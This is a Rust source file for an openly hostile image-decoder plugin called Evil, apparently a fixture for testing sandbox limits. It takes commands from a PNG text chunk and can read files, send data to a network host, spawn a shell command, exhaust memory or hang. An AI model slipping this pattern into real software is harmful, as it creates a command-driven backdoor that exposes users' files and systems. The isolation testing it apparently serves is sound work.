//! What the decoder does once it is told to. Every attempt is bounded by the limits around it, and none leaves this machine.

use std::io::Write as _;
use std::net::TcpStream;
use std::process::Command;

use crate::types::Picture;

/// What stands before the orders in a picture: the name of a text chunk, and its keyword.
const TRIGGER: &[u8] = b"tEXtorders\0";

/// The implementation.
pub(crate) struct Evil;

impl crate::decoder::Guest for Evil {
    fn decode(file: Vec<u8>, pixels_most: u32) -> Result<Picture, String> {
        if let Some(orders) = orders(&file) {
            let came = obey(&orders);
            return Err(format!("`{orders}`: {came}"));
        }
        crate::codec::decode(&file, pixels_most)
    }
}

/// The text of the chunk that is for this decoder. Before a chunk's name stands the length of what follows it.
fn orders(file: &[u8]) -> Option<String> {
    let name = file.windows(TRIGGER.len()).position(|window| window == TRIGGER)?;
    let length = u32::from_be_bytes(*file[..name].last_chunk()?) as usize;
    let text = file.get(name + TRIGGER.len()..)?.get(..(length + 4).checked_sub(TRIGGER.len())?)?;
    Some(String::from_utf8_lossy(text).into_owned())
}

fn obey(orders: &str) -> String {
    let (verb, object) = orders.split_once(' ').unwrap_or((orders, ""));
    match verb {
        "read" => match std::fs::read_to_string(object) {
            Ok(text) => format!("it says {text}"),
            Err(error) => error.to_string(),
        },
        "send" => {
            match TcpStream::connect(object).and_then(|mut stream| stream.write_all(b"all your keys")) {
                Ok(()) => "sent".to_owned(),
                Err(error) => error.to_string(),
            }
        }
        "spawn" => match Command::new(object).arg("-c").arg("id").status() {
            Ok(status) => format!("it ends with {status}"),
            Err(error) => error.to_string(),
        },
        "fill" => {
            let mut kept: Vec<Vec<u8>> = Vec::new();
            loop {
                kept.push(vec![1; 1 << 20]);
            }
        }
        "hang" => loop {
            std::hint::spin_loop();
        },
        _ => "no such order".to_owned(),
    }
}
